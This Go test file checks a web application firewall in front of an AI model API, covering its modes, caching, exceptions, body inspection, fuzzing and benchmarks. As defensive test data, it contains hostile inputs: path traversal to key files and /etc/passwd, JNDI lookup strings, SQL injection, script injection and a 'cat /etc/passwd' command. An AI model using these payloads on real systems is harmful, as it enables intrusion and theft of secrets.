package waf_test

import (
	"bytes"
	"io"
	"net/http"
	"runtime"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/ringwall/ringwall"
	"github.com/ringwall/ringwall/waf"
)

const traversal = "GET /v1/models?file=../../data/keys\nUser-Agent: x/1"

// A Firewall that nobody configured refuses, and does so on all routes.
func TestTheZeroConfigRefuses(t *testing.T) {
	f := open(t, waf.Config{})
	if f.Mode(waf.Model) != waf.Enforce || f.Mode(waf.Inner) != waf.Enforce || f.Mode(9) != waf.Enforce {
		t.Error("the zero mode lets pass")
	}
	for _, g := range []waf.Group{waf.Model, waf.Inner} {
		if j := f.Look(request(t, traversal, ""), g); !j.Refuse || len(j.Findings) == 0 {
			t.Errorf("%s: %+v", g, j)
		}
	}
}

func TestModes(t *testing.T) {
	for _, tt := range []struct {
		mode   waf.Mode
		refuse bool
		shadow string
	}{{waf.Enforce, true, ""}, {waf.Detect, false, "block"}} {
		f := open(t, waf.Config{Modes: [2]waf.Mode{tt.mode, tt.mode}})
		for _, g := range []waf.Group{waf.Model, waf.Inner} {
			j := f.Look(request(t, traversal, ""), g)
			if j.Refuse != tt.refuse || len(j.Findings) == 0 || j.Findings[0].Shadow != tt.shadow || j.Findings[0].Control != waf.Control {
				t.Errorf("%s, %s: %+v", g, tt.mode, j)
			}
		}
		if j := f.Body("/", []byte(strings.Repeat("[", 500))); j.Refuse != tt.refuse {
			t.Errorf("body, %s: %+v", tt.mode, j)
		}
	}
	off := open(t, waf.Config{Modes: [2]waf.Mode{waf.Off, waf.Off}})
	for _, g := range []waf.Group{waf.Model, waf.Inner} {
		if j := off.Look(request(t, traversal, ""), g); j.Refuse || len(j.Findings) > 0 {
			t.Errorf("%s: looked although it is off", g)
		}
	}
	if off.Body("/", []byte(strings.Repeat("[", 500))).Refuse {
		t.Error("a body is looked at although it is off")
	}
}

// What was judged is given again to the same request, and to one that differs in
// what is plain: ids, credentials, the length. It is not to any other.
func TestWhatIsKept(t *testing.T) {
	f := open(t, waf.Config{})
	head := clients["boto3"]
	if f.Door(request(t, head, "{}")).Kept {
		t.Fatal("the first is kept")
	}
	for _, same := range []string{
		head,
		strings.Replace(head, "6f1d6b1c-3a3d-4f51-9a5e-2d4c6b8a0f12", "00000000-3a3d-4f51-9a5e-2d4c6b8a0f12", 1),
		strings.Replace(head, "fe5f80f7", "00000000", 1),
		strings.Replace(head, "attempt=1", "attempt=2", 1),
	} {
		if !f.Door(request(t, same, `{"longer":"body"}`)).Kept {
			t.Errorf("not kept: %s", same)
		}
	}
	for what, other := range map[string]string{
		"another path":               strings.Replace(head, "/converse", "/invoke", 1),
		"another query":              strings.Replace(head, "/converse", "/converse?a=b", 1),
		"another agent":              strings.Replace(head, "Boto3/1.40.50", "Boto3/1.40.51", 1),
		"a header more":              head + "\nX-Note: a",
		"an id that is not plain":    strings.Replace(head, "6f1d6b1c-3a3d-4f51-9a5e-2d4c6b8a0f12", "${jndi:ldap://x}", 1),
		"a credential not of base64": strings.Replace(head, "Credential=", "Credential=<script>", 1),
	} {
		if f.Door(request(t, other, "{}")).Kept {
			t.Errorf("%s: kept", what)
		}
	}
	bad := strings.Replace(head, "6f1d6b1c-3a3d-4f51-9a5e-2d4c6b8a0f12", "${jndi:ldap://x.example/a}", 1)
	if j := f.Door(request(t, bad, "{}")); !j.Refuse {
		t.Error("an attack in an id passes")
	}
	if j := f.Door(request(t, bad, "{}")); !j.Refuse || !j.Kept {
		t.Error("an attack that was refused once is not refused again")
	}
	if j := f.Door(request(t, strings.Replace(head, "Z; attempt", "Z/../../etc/passwd; attempt", 1), "{}")); !j.Refuse {
		t.Error("a path in an id passes")
	}
}

// What is kept is bounded, whatever callers send.
func TestForgetting(t *testing.T) {
	f := open(t, waf.Config{Kept: 8})
	get := func(name string) *waf.Judgement {
		return f.Door(request(t, "GET /v1/models/"+name+"\nUser-Agent: x", ""))
	}
	get("first")
	for _, name := range strings.Split("abcdefghijkl", "") {
		get(name)
	}
	if get("first").Kept {
		t.Error("nothing is forgotten")
	}
	if !get("l").Kept {
		t.Error("the last is forgotten")
	}
	none := open(t, waf.Config{Kept: -1})
	none.Door(request(t, traversal, ""))
	if none.Door(request(t, traversal, "")).Kept {
		t.Error("kept although nothing is to be")
	}
}

func TestExceptions(t *testing.T) {
	f := open(t, waf.Config{Exceptions: []waf.Exception{
		{Rule: waf.RuleScanner, Path: "/v1", Reason: "our own tests"},
		{Rule: "944150", Target: "REQUEST_HEADERS:X-Note", Path: "/v1/models", Reason: "notes of admins"},
	}})
	agent := "\nUser-Agent: garak/0.13.1 (LLM vulnerability scanner https://garak.ai)"
	if j := f.Door(request(t, "GET /v1/models"+agent, "")); j.Refuse || len(j.Findings) != 1 || j.Findings[0].Excepted != "our own tests" {
		t.Errorf("not excused: %+v", j)
	}
	if j := f.Door(request(t, "GET /v10"+agent, "")); !j.Refuse {
		t.Error("excused at another path")
	}
	note := "\nUser-Agent: x/1\nX-Note: ${jndi:ldap://a.example/x}"
	if j := f.Door(request(t, "GET /v1/models/m"+note, "")); fired(j, "944150") {
		t.Errorf("not excused: %+v", j.Matches)
	}
	for _, other := range []string{"GET /v1/modelsx" + note, "GET /v1/models" + strings.Replace(note, "X-Note", "X-Other", 1)} {
		if j := f.Door(request(t, other, "")); !fired(j, "944150") {
			t.Errorf("excused: %s", other)
		}
	}
	for _, bad := range []waf.Exception{
		{Rule: "942100"},
		{Rule: "ai-nothing", Reason: "x"},
		{Rule: "949110", Reason: "x"},
		{Rule: "1", Reason: "x"},
		{Rule: "942100", Reason: "x", Target: `ARGS:q" "id:1`},
		{Rule: "942100", Reason: "x", Path: "/a\"b"},
		{Rule: waf.RuleSSRF, Target: "ARGS", Reason: "x"},
	} {
		if _, err := waf.New(waf.Config{Exceptions: []waf.Exception{bad}}); err == nil {
			t.Errorf("%+v is taken", bad)
		}
	}
}

// An exception ends by itself, also for what was judged before.
func TestExceptionsEnd(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		until := time.Now().Add(time.Hour)
		f := open(t, waf.Config{Exceptions: []waf.Exception{
			{Rule: waf.RuleTraversal, Until: until, Reason: "a"}, {Rule: "930100", Until: until, Reason: "b"}, {Rule: "930110", Until: until, Reason: "c"}, {Rule: "930120", Until: until, Reason: "d"},
		}})
		for range 2 {
			if j := f.Door(request(t, traversal, "")); j.Refuse {
				t.Fatalf("not excused: %+v", j.Matches)
			}
		}
		<-time.After(time.Hour)
		if j := f.Door(request(t, traversal, "")); !j.Refuse || j.Kept || !fired(j, "930100") {
			t.Errorf("excused for ever: %+v", j)
		}
	})
}

// Requests to inner routes are looked at with their bodies, which are there for who
// is behind.
func TestWhole(t *testing.T) {
	f := open(t, waf.Config{Body: 4096})
	form := "POST /login\nContent-Type: application/x-www-form-urlencoded\nUser-Agent: x/1\nAccept: */*"
	json := "PUT /guardrails/g1\nContent-Type: application/json\nUser-Agent: x/1\nAccept: */*"
	for _, tt := range []struct {
		name, head, body string
		refuse           bool
	}{
		{"an honest log-in", form, "user=alice&password=correct+horse%2Bbattery", false},
		{"SQL in a field", form, "user=admin'+OR+1%3D1--&password=x", true},
		{"a script in JSON", strings.Replace(json, "/guardrails/g1", "/admin/keys", 1), `{"name":"<script>alert(1)</script>"}`, true},
		{"JSON that is none", json, `{"name":`, true},
		{"a definition of a guardrail with words of attacks", json, `{"name":"g","wordPolicyConfig":{"wordsConfig":[{"text":"<script>alert(1)</script>"},{"text":"' OR 1=1 --"},{"text":"; cat /etc/passwd"}]},"topicPolicyConfig":{"topicsConfig":[{"name":"sql","definition":"UNION SELECT password FROM users","examples":["1' OR '1'='1"],"type":"DENY"}]},"blockedInputMessaging":"no","blockedOutputsMessaging":"no"}`, false},
		{"a definition that does not say that it is JSON", strings.Replace(json, "Content-Type: application/json\n", "", 1), `{"name":"g","wordPolicyConfig":{"wordsConfig":[{"text":"' OR 1=1 --"}]}}`, false},
		{"an attack in what does not say that it is JSON", strings.Replace(json, "Content-Type: application/json\n", "", 1), `{"kmsKeyId":"1' UNION SELECT password FROM users--"}`, true},
		{"an attack beside the definition", json, `{"name":"g","kmsKeyId":"1' UNION SELECT password FROM users--"}`, true},
		{"a body that is too long", form, "a=" + strings.Repeat("b", 5000), true},
		{"no body", "GET /guardrails?maxResults=10\nUser-Agent: Boto3/1.40.50 md/Botocore#1.40.50 ua/2.1 m/Z,b,D", "", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := request(t, tt.head, tt.body)
			j := f.Look(r, waf.Inner)
			if j.Refuse != tt.refuse || j.Failed {
				t.Errorf("refused %v, want %v: %+v", j.Refuse, tt.refuse, j)
			}
			if b, err := io.ReadAll(r.Body); err != nil || string(b) != tt.body {
				t.Errorf("behind the firewall the body is %d bytes, want %d: %v", len(b), len(tt.body), err)
			}
		})
	}
}

// Findings name rules, and hold nothing of the request.
func TestFindingsHoldNoText(t *testing.T) {
	f := open(t, waf.Config{})
	j := f.Door(request(t, "GET /v1/models?s3cret'%20x=1'%20OR%20'1'='1&q=<script>s3cret()</script>\nUser-Agent: s3cret", ""))
	if !j.Refuse || len(j.Findings) < 2 {
		t.Fatalf("%+v", j)
	}
	for _, fd := range j.Findings {
		if strings.Contains(fd.Reason+fd.Path, "s3cret") || strings.ContainsAny(fd.Reason, " _'") || fd.Score <= 0 || fd.Score > 1 {
			t.Errorf("%+v", fd)
		}
	}
	for _, want := range []string{"sql-injection-", "cross-site-scripting-", waf.RuleScript} {
		found := false
		for _, fd := range j.Findings {
			found = found || strings.HasPrefix(fd.Reason, want)
		}
		if !found {
			t.Errorf("no finding of %s: %+v", want, j.Findings)
		}
	}
}

// One rule that is worth a warning does not refuse; the scores of several do.
func TestScoresAddUp(t *testing.T) {
	f := open(t, waf.Config{Threshold: 6})
	r := func() *http.Request { return request(t, "GET /v1/models\nUser-Agent: sqlmap/1.8\nX-A: b", "") }
	if j := f.Door(r()); j.Refuse || j.Score != 5 || j.Findings[0].Severity != ringwall.High {
		t.Errorf("%+v", j)
	}
	if j := open(t, waf.Config{}).Door(r()); !j.Refuse {
		t.Errorf("%+v", j)
	}
}

// A closed firewall does not look, and does not let pass.
func TestClosed(t *testing.T) {
	f, err := waf.New(waf.Config{})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if j := f.Look(request(t, "GET /login\nUser-Agent: x", ""), waf.Inner); !j.Failed || !j.Refuse {
		t.Errorf("%+v", j)
	}
}

// A kept look allocates nothing to speak of.
func TestKeptAllocates(t *testing.T) {
	f := open(t, waf.Config{})
	r := request(t, clients["OpenAI for Python"], "{}")
	f.Door(r)
	if n := testing.AllocsPerRun(100, func() { f.Door(r) }); n > 2 {
		t.Errorf("%v allocations", n)
	}
}

// The load and size of both sets of rules, printed with -v.
func TestLoad(t *testing.T) {
	heap := func() uint64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	f := open(t, waf.Config{})
	door := heap()
	start := time.Now()
	if err := f.Preload(); err != nil {
		t.Fatal(err)
	}
	took := time.Since(start)
	t.Logf("rules of doors: %v, %d KiB; the whole set: %v, %d KiB more", f.Loaded(), (int64(door)-int64(before))/1024, took, (int64(heap())-int64(door))/1024)
	runtime.KeepAlive(f)
}

func FuzzBody(f *testing.F) {
	for _, c := range bodyCases {
		for _, b := range append(c.bad, c.good...) {
			if len(b) < 8<<10 {
				f.Add([]byte(b))
			}
		}
	}
	f.Add([]byte(`"\`))
	f.Add([]byte(`{"metadata":"\ud83d\u`))
	w, err := waf.New(waf.Config{Modes: [2]waf.Mode{waf.Enforce, waf.Enforce}, Kept: -1})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		j := w.Body("/", b)
		if j.Refuse != (len(j.Findings) > 0) || len(j.Findings) != len(j.Matches) {
			t.Errorf("%+v", j)
		}
		if again := w.Body("/", bytes.Clone(b)); again.Refuse != j.Refuse {
			t.Error("the same body is judged differently")
		}
	})
}

// A hostile address or header makes nothing panic, and what is kept is what a first
// look says.
func FuzzDoor(f *testing.F) {
	for _, head := range clients {
		_, rest, _ := strings.Cut(head, " ")
		target, headers, _ := strings.Cut(rest, "\n")
		f.Add(target, "X-Note", headers)
	}
	f.Add("/v1/models?q=http://0x7f.1/%2e%2e/%252e", "User-Agent", "garak <|im_start|>")
	f.Add("/a//b?x=//[::1%25a]:1/&y=http:\\\\0177.1", "Authorization", "Bearer ../..")
	kept, err := waf.New(waf.Config{})
	if err != nil {
		f.Fatal(err)
	}
	fresh, err := waf.New(waf.Config{Kept: -1})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, target, name, value string) {
		r, err := http.NewRequest(http.MethodGet, "http://h"+target, http.NoBody)
		if err != nil || target == "" || target[0] != '/' {
			t.Skip()
		}
		r.RequestURI = target
		r.Header[http.CanonicalHeaderKey(name)] = []string{value}
		first, again, other := kept.Door(r), kept.Door(r), fresh.Door(r)
		if first.Failed || other.Failed {
			t.Error("could not look")
		}
		if !again.Kept || again.Refuse != first.Refuse || other.Refuse != first.Refuse {
			t.Errorf("refused %v, then %v, without memory %v", first.Refuse, again.Refuse, other.Refuse)
		}
		waf.Injection(value)
	})
}

func BenchmarkDoor(b *testing.B) {
	for name, kept := range map[string]int{"kept": 0, "looked": -1} {
		b.Run(name, func(b *testing.B) {
			f := open(b, waf.Config{Kept: kept})
			r := request(b, clients["OpenAI for Python"], "{}")
			f.Door(r)
			b.ReportAllocs()
			for b.Loop() {
				f.Door(r)
			}
		})
	}
}

func BenchmarkBody(b *testing.B) {
	f := open(b, waf.Config{})
	for name, body := range map[string]string{"2KB": chat(prose(2 << 10)), "16KB": chat(prose(16 << 10)), "1MB": chat(prose(1 << 20)), "1MB-hostile": chat(strings.Repeat(`\"`, 1<<19))} {
		body := []byte(body)
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(body)))
			b.ReportAllocs()
			for b.Loop() {
				f.Body("/", body)
			}
		})
	}
}

func BenchmarkWhole(b *testing.B) {
	f := open(b, waf.Config{})
	for name, n := range map[string]int{"2KB": 2 << 10, "16KB": 16 << 10} {
		body := []byte(chat(prose(n)))
		r := request(b, clients["OpenAI for Python"], string(body))
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				f.Whole(b.Context(), r, body)
			}
		})
	}
}
